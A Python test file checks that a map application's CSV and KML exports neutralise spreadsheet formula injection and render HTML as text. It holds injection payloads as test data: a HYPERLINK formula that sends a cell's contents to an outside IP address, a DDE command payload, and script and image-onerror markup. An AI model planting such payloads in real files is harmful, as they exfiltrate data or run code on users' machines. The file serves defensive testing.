"""Exports never carry an attack into the program that opens them, and keep the real text readable: CSV cells that
a spreadsheet would run as a formula, KML names and descriptions that a viewer would render as HTML — in the map's
CSV download, the industry page's park table, and the command-line export (round trips through a real CSV reader
and XML parser)."""
from __future__ import annotations

import csv
import html
import io
import xml.etree.ElementTree as ET

import pytest

from conftest import rewrite_json, run_app_page

# Spreadsheet formula starts (OWASP's list and the full-width forms WPS users type), and text that is safe.
FORMULAS = ['=HYPERLINK("http://203.0.113.9/?d="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "＝1+1", "－1", "'=looks guarded"]
SAFE = ["大连 = 宜居", "a-b", "ok@host", "line\r=not a row of its own"]
HTML = ['<img src="http://203.0.113.9/k.png" onerror="alert(1)">', "<script>alert(2)</script>", "a & b < c"]
KML = "{http://www.opengis.net/kml/2.2}"


def read_csv(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff"), "UTF-8 with BOM for Excel/WPS"
    rows = list(csv.DictReader(io.StringIO(text[1:], newline="")))  # newline="": as the csv module asks
    assert rows and all(None not in row and None not in row.values() for row in rows), "every row has every cell"
    return rows


def assert_csv_is_inert_and_readable(rows: list[dict[str, str]], column: str, written: list[str]) -> None:
    from layers.export import FORMULA_START, uncsv_cell

    cells = [row[column] for row in rows]
    for original in written:
        cell = next(c for c in cells if uncsv_cell(c) == original)  # the real text comes back
        assert not cell.startswith(FORMULA_START), cell  # nothing a spreadsheet would run
        assert cell in (original, "'" + original) and (cell != original) == original.lstrip("'").startswith(
            FORMULA_START), (original, cell)


def craft_parks(data) -> None:
    texts = FORMULAS + HTML + SAFE
    assert len(data["features"]) >= len(texts), "one crafted text per park"
    for feat, text in zip(data["features"], texts):
        feat["properties"].update(name_zh=text, name_en=text, function_zh=text, source=text)


@pytest.fixture
def crafted(geodata_copy):
    rewrite_json(geodata_copy / "layers" / "ind_parks.geojson", craft_parks)
    return geodata_copy


def test_csv_cell_round_trip():
    from layers.export import csv_cell, uncsv_cell

    for text in FORMULAS + SAFE + HTML + ["'quoted", "'=already", "''+x", "harmless\r=cmd()"]:
        assert uncsv_cell(csv_cell(text)) == text
    assert csv_cell(-1.5) == -1.5 and csv_cell(None) is None  # numbers stay numbers


def test_map_csv_download_neutralises_formulas(crafted, offered_files):
    at = run_app_page("pages/industry.py", "en")
    assert not at.exception
    rows = read_csv(offered_files(at, "CSV (attributes)").decode("utf-8"))
    for column in ("name_zh", "function_zh", "source"):
        assert_csv_is_inert_and_readable([r for r in rows if r["layer"] == "ind_parks"], column, FORMULAS + SAFE)
    assert all(float(r["lon"]) > 120 for r in rows), "coordinates stay numbers"


def test_park_table_download_neutralises_formulas(crafted, offered_files):
    at = run_app_page("pages/industry.py", "en")
    assert not at.exception
    rows = read_csv(offered_files(at, "Download table (CSV)").decode("utf-8"))
    assert_csv_is_inert_and_readable(rows, "Name", FORMULAS + SAFE)
    assert_csv_is_inert_and_readable(rows, "Source", FORMULAS + SAFE)


def test_command_line_csv_export_is_neutralised(crafted, tmp_path):
    from layers.export import export_layers

    written, problems = export_layers(tmp_path, "csv", ["ind_parks"])
    assert problems == []
    rows = read_csv(written[0].read_bytes().decode("utf-8"))  # bytes: no newline translation on the way
    assert_csv_is_inert_and_readable(rows, "name_zh", FORMULAS + SAFE)


def test_command_line_kml_export_shows_html_as_text(crafted, tmp_path):
    from layers.export import export_layers

    written, problems = export_layers(tmp_path, "kml", ["ind_parks"])
    assert problems == []
    root = ET.parse(written[0]).getroot()  # a real XML parser, as a viewer's
    names = [el.text or "" for el in root.iter(f"{KML}name")]
    descriptions = [el.text or "" for el in root.iter(f"{KML}description")]
    for text in names + descriptions:
        assert "<" not in text and ">" not in text, text  # a viewer that renders HTML shows the characters
    for original in HTML:
        assert f"{original} {original}" in [html.unescape(n) for n in names]  # name_zh name_en, readable again
        assert any(original in html.unescape(d) for d in descriptions)
